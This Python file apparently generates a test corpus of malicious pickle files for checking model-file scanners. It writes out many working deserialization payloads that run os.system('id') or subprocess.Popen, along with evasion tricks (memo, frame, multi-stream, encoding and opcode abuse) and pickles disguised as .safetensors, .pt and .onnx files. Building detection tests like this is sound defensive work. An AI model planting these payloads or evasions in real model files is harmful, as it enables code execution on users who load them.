"""Pickles that mislead a reader of opcodes: the stack, the memo, frames, several streams, breaks, and encodings."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import marshal
import pickle
import struct
import zlib
from collections.abc import Callable

from corpus import Sample, add, bad
from corpus.pickle_gadgets import stack_global, text

EVIL = b"cposix\nsystem\n(S'id'\ntR."
ID = text("id") + b"\x85R"
SYSTEM = stack_global("posix", "system")
FRAME = struct.Struct("<BQ")


def frame(size: int) -> bytes:
    return FRAME.pack(0x95, size)


def _trick(name: str, why: str, data: bytes) -> None:
    add(Sample(f"pickle_tricks/{name}", "pickle", why, "model.pkl", "", lambda: data, dangerous=True))


for _protocol in range(6):
    _trick(f"protocol_{_protocol}", "the plain attack, in each protocol", bytes((0x80, _protocol)) + EVIL)

for _name, _why, _data in (
    ("inst", "INST imports and calls in one opcode", b"(S'id'\niposix\nsystem\n."),
    ("obj", "OBJ calls what stands above the mark; fickling did not see it", b"(cposix\nsystem\nS'id'\no."),
    ("newobj", "NEWOBJ", b"\x80\x04" + stack_global("subprocess", "Popen") + text("id") + b"\x85\x81."),
    ("newobj_ex", "NEWOBJ_EX", b"\x80\x04" + stack_global("subprocess", "Popen") + text("id") + b"\x85}\x92."),
    ("newobj_ex_keywords", "the arguments stand in the keywords",
     b"\x80\x04" + stack_global("subprocess", "Popen") + b")}" + text("args") + text("id") + b"s\x92."),
    ("memo_names", "picklescan issue 22: the operands of STACK_GLOBAL come from the memo",
     b"\x80\x04" + text("posix") + b"\x940" + text("system") + b"\x940" + text("dict") + b"0h\0h\x01\x93" + ID + b"."),
    ("memo_overwritten", "the last PUT wins",
     b"\x80\x04" + text("re") + b"q\x000" + text("posix") + b"q\x000h\0" + text("system") + b"\x93" + ID + b"."),
    ("memo_text_indexes", "PUT and GET in decimal, which the C unpickler reads up to a NUL",
     b"Vposix\np1\0x\n0Vsystem\np002\n0\x80\x04g1\ng2\n\x93Vid\n\x85R."),
    ("memo_far_away", "a memo index for which the C unpickler would take gigabytes", b"Nr\xff\xff\xff\x7f."),
    ("memo_of_the_stream_before", "one Unpickler, loaded twice, keeps its memo",
     pickle.dumps(["posix", "system"], 4) + b"\x80\x04h\x01h\x02\x93" + ID + b"."),
    ("memo_counts_on", "the second stream means another thing to an Unpickler that kept its memo",
     b"\x80\x04" + text("posix") + b"\x94" + text("system") + b"\x94\x86." + b"\x80\x04" + text("builtins") + b"\x94"
     + text("list") + b"\x94" + b"00h\0h\x01\x93" + b"0N."),
    ("dup", "DUP copies the function", b"\x80\x04" + SYSTEM + b"2" + ID + b"0."),
    ("pop_of_a_mark", "POP takes a mark away when nothing stands above it", b"\x80\x04" + SYSTEM + b"((00" + ID + b"."),
    ("pop_mark", "POP_MARK drops what hides the arguments",
     b"\x80\x04" + SYSTEM + b"(" + text("innocent") + b"K\x011" + ID + b"."),
    ("result_dropped", "fickling: the result is popped, and the call vanishes", b"\x80\x04" + SYSTEM + ID + b"0N."),
    ("called_by_a_list", "the unpickler in Python takes any iterable for arguments",
     b"\x80\x04" + SYSTEM + b"]" + text("id") + b"aR."),
    ("python_2_name", "protocols below 3 read names of Python 2", b"c__builtin__\neval\n(S'1'\ntR."),
    ("python_2_module", "a module that was renamed", b"ccommands\ngetoutput\n(S'id'\ntR."),
    ("protocol_changes", "PROTO in the midst decides how names are read",
     b"\x80\x02N0\x80\x04" + stack_global("glob", "os.system") + ID + b"."),
    ("name_by_binstring", "picklescan: STACK_GLOBAL of old kinds of text",
     b"\x80\x04U\x05posixU\x06system\x93" + ID + b"."),
    ("name_by_unicode", "the same by UNICODE with an escape", b"\x80\x04Vp\\u006fsix\nVsystem\n\x93" + ID + b"."),
    ("name_by_long_binunicode", "the same with lengths of eight bytes",
     b"\x80\x04\x8d" + struct.pack("<Q", 5) + b"posix\x8d" + struct.pack("<Q", 6) + b"system\x93" + ID + b"."),
    ("name_that_is_made", "a call returns the name that STACK_GLOBAL takes",
     b"\x80\x04" + text("posix") + stack_global("builtins", "str") + text("system") + b"\x85R\x93" + ID + b"."),
    ("extension_1", "EXT1: a function by number", b"\x80\x02\x82\x01" + b"Vid\n\x85R."),
    ("extension_2", "EXT2", b"\x80\x02\x83\x01\0" + b"Vid\n\x85R."),
    ("extension_4", "EXT4", b"\x80\x02\x84\x01\0\0\0" + b"Vid\n\x85R."),
    ("persistent", "PERSID asks the program that loads", b"Pos.system\n."),
    ("binary_persistent", "BINPERSID", b"\x80\x02Vos.system\nQ."),
    ("build_on_a_function", "modelscan issue 85: BUILD writes attributes onto a function",
     b"\x80\x05cnumpy\nlog1p\nN(Va\nVos\nd\x86b."),
    ("build_plants_setstate", "the first BUILD plants what the second one calls",
     b"\x80\x04" + stack_global("collections", "OrderedDict") + b")R}" + text("__setstate__")
     + stack_global("collections", "Counter") + b"sb" + text("x") + b"b."),
    ("build_class", "an instance becomes another class",
     b"\x80\x04" + stack_global("collections", "OrderedDict") + b")RN}" + text("__class__")
     + stack_global("collections", "Counter") + b"s\x86b."),
    ("setitem_on_a_module", "items are put into sys.modules",
     b"\x80\x04" + stack_global("sys", "modules") + text("os") + b"Ns."),
    ("append_on_an_object", "APPEND calls a method of that name",
     b"\x80\x04" + stack_global("types", "SimpleNamespace") + b")\x81}" + text("append") + SYSTEM + b"sb"
     + text("id") + b"a."),
    ("import_alone", "importing a module runs it", b"\x80\x04" + stack_global("antigravity", "fly") + b"."),
    ("import_dropped", "and nothing of it need stay", b"\x80\x04" + stack_global("evil.mod", "x") + b"0N."),
    ("no_stop", "GHSA-9gvj-pp9x-gcfr: the stream ends before its STOP", EVIL[:-1]),
    ("broken_behind", "GHSA-9gvj-pp9x-gcfr: an unknown opcode behind the call", EVIL[:-1] + b"\xff\xff."),
    ("underflow_behind", "the stack underflows behind the call", EVIL[:-1] + b"000."),
    ("bad_utf8_behind", "picklescan: text behind the call that is no UTF-8", EVIL[:-1] + b"X\x02\0\0\0\xff\xfe."),
    ("bad_name_behind", "picklescan: a name behind the call that is no UTF-8", EVIL[:-1] + b"cmod\n\xf8\n."),
    ("memo_missing_behind", "picklescan: GET of nothing behind the call", EVIL[:-1] + b"g99\n."),
    ("second_stream", "the second load of the same file", pickle.dumps(1, 2) + EVIL),
    ("third_stream_of_protocol_0", "streams of several protocols", pickle.dumps(1, 4) + b"N." + EVIL),
    ("second_stream_behind_a_broken_frame", "who goes on behind a frame that lies",
     b"\x80\x04" + frame(9) + b"N." + EVIL),
    ("frame_too_short", "a frame that ends within an opcode", b"\x80\x04" + frame(3) + SYSTEM + ID + b"."),
    ("frame_too_long", "a frame that is longer than the file", b"\x80\x04" + frame(1 << 40) + SYSTEM + ID + b"."),
    ("frame_in_a_frame", "the C unpickler reads on", b"\x80\x04" + frame(100) + frame(1) + SYSTEM + ID + b"."),
    ("frame_goes_on_behind_its_stop", "readers stand at two places then",
     b"\x80\x04" + frame(2 + len(EVIL)) + b"N." + EVIL),
    ("name_over_the_end_of_a_frame", "a reader of files takes another name than a reader of bytes",
     b"\x80\x04" + frame(8) + b"cbuiltinposix\nsystem\n" + ID + b"."),
    ("nothing_put_into_a_tuple", "the C unpickler does not look what nothing is put into", b")(u" + EVIL),
    ("item_of_a_list", "SETITEM of a list", b"]K\0aK\0Ns" + EVIL),
    ("integer_of_few_readers", "an integer in C's octal", b"I010\n0" + EVIL),
    ("mark_missing", "the unpickler in Python imports before it misses the mark", b"ios\nsystem\n."),
    ("nested_loads", "a pickle inside a call of pickle.loads",
     pickle.dumps(b"", 4)[:2] + stack_global("pickle", "loads") + b"C" + bytes([len(EVIL)]) + EVIL + b"\x85R."),
    ("out_of_band", "what it loads is not in the file", b"\x80\x05\x97."),
    ("old_protocol_behind_data", "protocol 0 begins with any byte", b"(lp0\nI1\na(dp1\nVa\n" + EVIL[:-1] + b"sa."),
    ("padding_of_nothing", "half a million opcodes before the call", b"\x80\x02" + b"N0" * 250_000 + EVIL),
):  # fmt: skip
    _trick(_name, _why, _data)

ENCODERS: dict[str, Callable[[bytes], bytes]] = {
    "as_it_is": bytes, "base64": base64.b64encode, "base64url": base64.urlsafe_b64encode, "base32": base64.b32encode,
    "base85": base64.b85encode, "ascii85": base64.a85encode, "hex": lambda raw: raw.hex().encode(),
    "zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "lzma": lzma.compress,
    "base64_of_zlib": lambda raw: base64.b64encode(zlib.compress(raw)),
    "hex_of_gzip": lambda raw: gzip.compress(raw).hex().encode(),
    "zlib_of_base64": lambda raw: zlib.compress(base64.b64encode(raw)),
}  # fmt: skip
for _name, _encode in ENCODERS.items():
    for _kind, _inner in (("", EVIL), ("_of_protocol_4", b"\x80\x04" + SYSTEM + ID + b".")):
        _trick(
            f"carried_{_name}{_kind}", "a program carried in data, for application code to load",
            pickle.dumps({"weights": [1.0], "state": _encode(_inner)}, 4),
        )  # fmt: skip
        if _name in ("base64", "hex", "base85"):
            _trick(f"carried_in_text_{_name}{_kind}", "the same as text", pickle.dumps([_encode(_inner).decode()], 2))


@bad("pickle", "marshalled code for eval or FunctionType", file="model.pkl")
def carried_code() -> bytes:
    return pickle.dumps({"hook": marshal.dumps(compile("import os; os.system('id')", "x", "exec"))}, 4)


@bad("pickle", "the same in base64", file="model.pkl")
def carried_code_in_base64() -> bytes:
    raw = marshal.dumps(compile("import os; os.system('id')", "x", "exec"))
    return pickle.dumps({"hook": base64.b64encode(raw)}, 4)


@bad("pickle", "an ELF executable in a value", file="model.pkl")
def carried_executable() -> bytes:
    return pickle.dumps({"blob": b"\x7fELF\x02\x01\x01" + b"\0" * 200}, 4)


@bad("pickle", "five programs inside one another", file="model.pkl")
def carried_deep() -> bytes:
    data = EVIL
    for _ in range(5):
        data = pickle.dumps({"inner": data}, 4)
    return data


@bad("pickle", "a function by value, as cloudpickle writes it", needs="cloudpickle", file="f.pkl")
def cloudpickled_lambda() -> bytes:
    import cloudpickle

    return bytes(cloudpickle.dumps(lambda x: x + 1))


@bad("pickle", "the same inside a scikit-learn model", needs="cloudpickle", file="f.pkl")
def cloudpickled_step() -> bytes:
    import cloudpickle

    return bytes(cloudpickle.dumps({"transform": lambda x: x * 2, "classes": [0, 1]}))


@bad("pickle", "CVE-2025-1889: a pickle by any other name", file="weights.safetensors")
def named_safetensors() -> bytes:
    return EVIL


@bad("pickle", "CVE-2025-10155: a pickle with the extension of torch", file="model.pt")
def named_torch() -> bytes:
    return b"\x80\x02" + EVIL


@bad("pickle", "joblib reads a compressed pickle whatever it is called", file="model.onnx")
def compressed_and_renamed() -> bytes:
    return zlib.compress(EVIL)
